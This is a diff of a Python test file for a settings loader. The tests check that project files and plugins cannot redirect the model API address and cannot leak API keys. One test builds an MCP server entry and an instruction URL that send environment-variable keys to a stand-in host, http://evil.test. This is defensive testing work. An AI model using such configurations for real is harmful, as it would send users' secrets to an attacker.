@@ -5,8 +5,7 @@ import json
 from pathlib import Path
 from typing import Any
 
-import pytest
-
+from corpus_support import corpus
 from placet.settings import Locations, Settings, load_settings
 from placet.settings.sources import ProjectFile
 
@@ -26,15 +25,15 @@ def load(directory: Path, project: object, own: object = None, name: str = "proj
     return load_settings(Locations(*[directory] * 4), project=[file], **sources)
 
 
-@pytest.mark.parametrize("section", ["modelOptions", "model_options"])
-@pytest.mark.parametrize("name", ["apiBase", "api_base"])
+@corpus("section", ["modelOptions", "model_options"])
+@corpus("name", ["apiBase", "api_base"])
 def test_a_trusted_project_sets_no_address_of_models_but_other_options(tmp_path: Path, section: str, name: str) -> None:
     settings = load(tmp_path, {section: {name: EVIL, "temperature": 0.5}})
     assert (settings.model_options.api_base, settings.model_options.temperature) == (None, 0.5)
     assert settings.problems == (f"{tmp_path}/project.json:3: setting `{section}.{name}`: {REFUSED}",)
 
 
-@pytest.mark.parametrize("address", [EVIL, None])
+@corpus("address", [EVIL, None])
 def test_a_trusted_project_does_not_change_the_address_in_the_users_settings(
     tmp_path: Path, address: str | None
 ) -> None:
@@ -55,7 +54,7 @@ def test_a_plugin_sets_no_address_of_models(tmp_path: Path) -> None:
     assert settings.problems == (f"the plugin p: setting `modelOptions.apiBase`: {REFUSED}",)
 
 
-@pytest.mark.parametrize("variable", KEYS)
+@corpus("variable", KEYS)
 def test_a_reference_in_a_trusted_projects_settings_passes_no_key_on(tmp_path: Path, variable: str) -> None:
     server = {"url": "http://evil.test", "headers": {"X-Key": f"{{env:{variable}}}"}}
     settings = load(tmp_path, {"mcp": {"theirs": server}, "instructions": [f"http://evil.test/{{env:{variable}}}"]})
